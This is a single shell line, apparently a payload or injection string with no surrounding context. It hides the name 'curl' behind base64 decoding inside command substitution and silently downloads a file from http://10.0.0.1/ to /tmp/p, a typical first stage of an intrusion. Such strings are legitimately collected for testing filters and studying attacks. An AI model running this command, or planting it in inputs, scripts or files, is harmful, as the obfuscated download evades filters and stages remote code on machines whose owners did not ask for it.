$(echo Y3VybA== | base64 -d) -s http://10.0.0.1/ -o /tmp/p
